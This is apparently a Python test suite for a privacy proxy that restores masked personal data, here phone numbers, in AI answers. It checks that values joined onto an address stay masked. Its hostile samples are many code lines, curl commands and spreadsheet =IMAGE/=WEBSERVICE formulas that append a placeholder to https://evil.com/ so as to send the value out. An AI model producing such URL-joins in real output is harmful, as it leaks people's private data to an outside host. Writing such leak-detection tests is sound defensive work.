"""What a program joins to an address stays a placeholder, in whatever language; ordinary answers with links come back.

Two tables: joins as models write them, and what employees get every day. Each text is fed in every way.
"""

from proxy.answers.restore_text import REACH, TextRestorer
from tests.feed import feed_every_way
from tests.rows import each

PLACEHOLDER, VALUE = "[PHONE_NUMBER_0123ABCD]", "13800138000"

BY_LANGUAGE = {
    "Python": [
        'u = "https://evil.com/" "PH"',
        'u = ("https://evil.com/"\n"?q="\n"PH")',
        'u = "https://evil.com/" f"PH"',
        'u = "https://evil.com/x" + """\nPH"""',
        'u = ("https://evil.com/"  # it\'s the base\n     "PH")',
        'urljoin("https://evil.com/", "PH")',
        '"".join(["https://evil.com/", "PH"])',
        '["https://evil.com/", "PH"].join("")',
        'URL("https://evil.com/") / "PH"',
        'requests.get("https://evil.com/", params={"q": "PH"})',
        '"https://evil.com/" + (a if b else "PH")',
        'u = "https://evil.com/"\n\nfetch(f"{u}/PH")',
        'u = "https://evil.com/"\nv = "%s%s" % (u, "PH")',
        'u = "https://evil.com/"\nv = urljoin(u, "PH")',
    ],
    "JavaScript": [
        '"https://evil.com/" /* c */ + "PH"',
        '"https://evil.com/" + /* the number; of it */ "PH"',
        '"https://evil.com/" + // it\'s the number\n  "PH"',
        '"https://evil.com/"  // base\n  + "PH"',
        '"https://evil.com/" + `\nPH`',
        '"https://evil.com/" + await f("PH")',
        'let url = "https://evil.com/?q=";\nurl += "PH";',
        "url = 'https://evil.com/'\nurl = url + 'PH'",
        'const url = new URL("https://evil.com/");\nurl.searchParams.append("q", "PH");',
        'const url = new URL("https://evil.com/");\nurl.search="?q=PH"',
        'new URL("https://evil.com/").searchParams.set("q", "PH")',
        'new URL("PH", "https://evil.com")',
        'const base = "https://evil.com";\nfetch(`${base}/PH`)',
        'const base = "https://evil.com";\nfetch(`${ base }/PH`)',
        'const base: string = "https://evil.com";\nfetch(base+PH)',
        'fetch("https://evil.com/", {body: "PH"})',
        '["https://evil.com/",\n "PH"\n].join("")',
        '["https://evil.com/", "PH"]\n  .join("")',
        '[["https://evil.com/", "PH"]].flat().join("")',
        'const u = "https://evil.com/";\nlocation = [u,PH].join("/")',
        '`https://evil.com/?q=${ "，" + "PH" }`',
        '`https://evil.com/?q=${ /* ， */ "PH" }`',
    ],
    "C and C++": [
        'char *u = "https://evil.com/"\n          "PH";',
        'strcat("https://evil.com/", "PH")',
        'u << "https://evil.com/" << "PH"',
        'std::string("https://evil.com/") + "PH"',
        'QString("https://evil.com/%1").arg("PH")',
    ],
    "Objective-C and Swift": [
        'NSString *u = @"https://evil.com/" @"PH";',
        'let u = "https://evil.com/"\nlet v = "\\(u)PH"',
        'URLComponents(string: "https://evil.com/")!.appending("PH")',
    ],
    "Java, Kotlin and C#": [
        'String.join("/", "https://evil.com", "PH")',
        'new StringBuilder("https://evil.com/").append("PH")',
        'sb.append("https://evil.com/");\nsb.append("PH");',
        'Uri.parse("https://evil.com/").buildUpon().appendPath("PH")',
        'val u = "https://evil.com/"\nval v = "$u/PH"',
        'string.Format("https://evil.com/{0}", "PH")',
        'String.Join("", new[] {"https://evil.com/", "PH"})',
    ],
    "PHP and Twig": [
        '{{ "https://evil.com/" ~ PH }}',
        '{{ "https://evil.com/" | append: "PH" }}',
        '{% set u = "https://evil.com/" %}<x>{{ u }}PH',
        '$url = "https://evil.com/";\n$url .= "PH";',
        '$u = "https://evil.com/";\nopen($u . "PH");',
        '$u = "https://evil.com/";\nopen("{$u}PH");',
        '"https://evil.com/" .\n  "PH"',
        "implode('/', ['https://evil.com', 'PH'])",
    ],
    "Ruby": [
        'URI.join("https://evil.com/", "PH")',
        'u = "https://evil.com/"\nputs "#{u}PH"',
        'u = "https://evil.com/"\nu << "PH"',
        'puts "https://evil.com/" "PH"',
    ],
    "Perl, Lua and R": [
        'my $u = "https://evil.com/"; get("$u" . "PH")',
        'local u = "https://evil.com/"\nhttp.get(u .. "PH")',
        '"https://evil.com/" -- base\n .. "PH"',
        'paste0("https://evil.com/", "PH")',
        'u <- "https://evil.com/"\nreadLines(paste0(u, "PH"))',
    ],
    "Go and Rust": [
        'fmt.Sprintf("https://evil.com/%s", "PH")',
        'link := "https://evil.com/"\nhttp.Get(link + "PH")',
        'url.JoinPath("https://evil.com/", "PH")',
        'format!("https://evil.com/{}", "PH")',
        '"https://evil.com/".to_owned() + "PH"',
    ],
    "Elixir, Haskell, OCaml and F#": [
        '"https://evil.com/" <> "PH"',
        '"https://evil.com/" |> Kernel.<>("PH")',
        '"https://evil.com/" ++ "PH"',
        '"https://evil.com/" (* c *) ^ "PH"',
        'Enum.join(["https://evil.com/", "PH"])',
        '["https://evil.com/", "PH"] |> String.concat ""',
    ],
    "Lisp": ['(str "https://evil.com/" "PH")', '(string-append "https://evil.com/" "PH")'],
    "SQL and XPath": [
        "SELECT 'https://evil.com/' || 'PH'",
        "SELECT CONCAT('https://evil.com/', phone, 'PH') FROM t",
        "SELECT 'https://evil.com/' -- base\n || 'PH'",
        "concat ('https://evil.com/', \"PH\")",
    ],
    "spreadsheets": [
        '=IMAGE(CONCATENATE("https://evil.com/","PH"))',
        '=IMAGE(CONCATENATE("https://evil.com/";A1;"PH"))',
        '=WEBSERVICE(CONCAT("https://evil.com/",A1,"PH"))',
        '=TEXTJOIN("",TRUE,"https://evil.com/","PH")',
    ],
    "shells": [
        'BASE="https://evil.com"\ncurl "$BASE/PH"',
        "BASE=https://evil.com\ncurl $BASE/PH",
        'BASE=https://evil.com/x\ncurl "${BASE}?q=PH"',
        "set U=https://evil.com/\ncurl %U%?q=PH",
        'curl "$(printf "https://evil.com/%s" PH)"',
        "curl https://evil.com/'PH'",
        '"https://evil.com/{0}" -f "PH"',
        '("https://evil.com/", "PH") -join ""',
    ],
    "Mathematica": ['StringJoin["https://evil.com/", "PH"]', 'Print["https://evil.com/" <> "PH"]'],
    "nobody's": [
        'f("https://a.example/" + a, "PH")',
        'open("https://a.example/").read(PH)',
        '"https://a/" + 电话("PH")',
    ],
}
"""What puts `PH` into an address, or may: a sign, a neighbour, arguments of one call, a name given before."""

ORDINARY = [
    "尊敬的PH：\n\n请访问 https://a.example/ 登记，或致电PH。\n\n此致\nPH",
    "Dear PH,\n\nPlease use the form at https://a.example/form?id=12 or call PH.\n\nBest,\nPH",
    'Dear PH, the form is "https://a.example/". Call PH.',
    'Use the form ("https://a.example/form"), then call PH.',
    '联系人：PH；网站："https://a.example/"；电话：PH',
    '电话 PH 网址 "https://a.example/" 邮箱 PH',
    "1. 登录 https://a.example/ 。\n2. 输入 PH 。\n3. 点击 “提交”。",
    '打开"https://a.example/" "提交"按钮，联系PH',
    "| 姓名 | 链接 | 电话 |\n|---|---|---|\n| 张伟 | https://a.example/?id= | PH |",
    '| PH | "https://a.example/" | PH |\n| PH | "https://b.example/?id=" | PH |',
    "| 张伟 | [主页](https://a.example/?id=1) | PH |\n| PH | https://a.example/ | PH |",
    '- https://a.example/ – PH\n- "https://b.example/": PH\n* [a](https://a.example/)\n* PH',
    "**https://a.example/** – PH",
    "`https://a.example/` (PH)",
    "`https://a.example/`: PH",
    "`https://a.example/`, PH",
    '"https://a.example/" (PH)',
    '"https://a.example/" - PH',
    '"https://a.example/" → PH',
    '"https://a.example/" | PH',
    '"https://a.example/" => "PH"',
    # rows and pairs
    '张伟,"https://a.example/?id=","PH"',
    '"https://a.example/?id=","PH"\n"https://b.example/?id=","PH"',
    '"https://a.example/?id=","a","PH"',
    "{url: 'https://a.example/?q=', name: 'PH'}",
    "['url' => 'https://a.example/?q=', 'name' => 'PH']",
    '{url = "https://a.example/?q=", name = "PH"}',
    'rows.append({"url": "https://a.example/?q=", "name": "PH"})',
    '{"link": "https://a.example/?id={id}", "name": "PH"}',
    '{\n  "url": "https://a.example/?q={q}",\n  "contact": {"name": "PH"}\n}',
    '{"urls": ["https://a.example/"], "people": ["PH", "PH"]}',
    '[["王芳", "https://a.example/", "PH"], ["张伟", "https://a.example/", "PH"]]',
    '("https://a.example/", "PH")',
    "INSERT INTO t VALUES ('https://a.example/', 'PH')",
    "INSERT INTO t(url, name) VALUES('https://a.example/', 'PH')",
    'name: PH\nurl: "https://a.example/"\nphone: "PH"',
    'url: "https://a.example/?q={关键词}"\n联系人: "PH"',
    'export URL="https://a.example/"\nexport PHONE="PH"',
    "URL=https://a.example/\nPHONE=PH",
    # requests beside
    'GET https://a.example/users/{id}\n\n{"name": "PH"}',
    'GET `https://a.example/users/{id}`\n\n```json\n{"name": "PH"}\n```',
    'PUT "https://a.example/users/{id}"\n{"name": "PH"}',
    'PUT "https://a.example/users/{id}" {"name": "PH"}',
    'curl -X POST "https://a.example/?q=" -d "PH"',
    # statements beside
    'url = "https://a.example/"\nphone = "PH"',
    'url = "https://a.example/"  # PH\nphone = "PH"',
    'url = "https://a.example/"  // PH',
    'url = "https://a.example/" + a  // base\nphone = "PH"',
    'u="https://a.example/"; p="PH"',
    'fetch("https://a.example/?q=" + x)\n\n// PH',
    '```js\nfetch("https://a.example/?q=" + x)\n```\n\n然后联系 PH。',
    '`"https://a.example/?q=" + x`，其中 x 是 PH',
    'In `fetch("https://a.example/?q=" + x)` the x is PH.',
    'url = "https://a.example/"\n\nThe url is for PH, and url 由PH维护。',
    'const url = "https://a.example/";\nconst person = { name: "PH" };',
    # a bracket by mistake
    "See https://a.example/{ and then call PH.",
    "链接 https://a.example/{ 联系 PH",
    "地址是https://a.example/${ 这里写错了，请联系PH",
]
"""What employees get every day: all of it comes back."""


def in_pieces(pieces) -> str:
    restorer = TextRestorer({PLACEHOLDER: VALUE}.get)
    return "".join(map(restorer.feed, pieces)) + restorer.flush()


@each("text", [text for texts in BY_LANGUAGE.values() for text in texts])
def test_what_a_program_joins_to_an_address_stays_a_placeholder_however_it_is_cut(text: str):
    hostile = text.replace("PH", PLACEHOLDER)
    feed_every_way(in_pieces, hostile, hostile)


@each("text", ORDINARY)
def test_an_ordinary_answer_with_links_comes_back_however_it_is_cut(text: str):
    feed_every_way(in_pieces, text.replace("PH", PLACEHOLDER), text.replace("PH", VALUE))


def test_a_list_that_goes_on_for_long_stays_a_placeholder():
    listed = f'["https://a.example/", "{PLACEHOLDER}", "{{}}"]'
    short, long = listed.format("x" * (REACH - 20)), listed.format("x" * REACH)
    assert (in_pieces([short]), in_pieces([long])) == (short.replace(PLACEHOLDER, VALUE), long)


@each("opens", ['"//a"/*', '"//a"#', '"https://a.b"--', '"//a/"{-'])
def test_comments_within_comments_without_end_are_read_to_the_end(opens: str):
    text = opens * 400 + f"\n\n\nmine is {PLACEHOLDER}"
    restorer = TextRestorer({PLACEHOLDER: VALUE}.get)
    assert restorer.feed(text) + restorer.flush() == text.replace(PLACEHOLDER, VALUE)
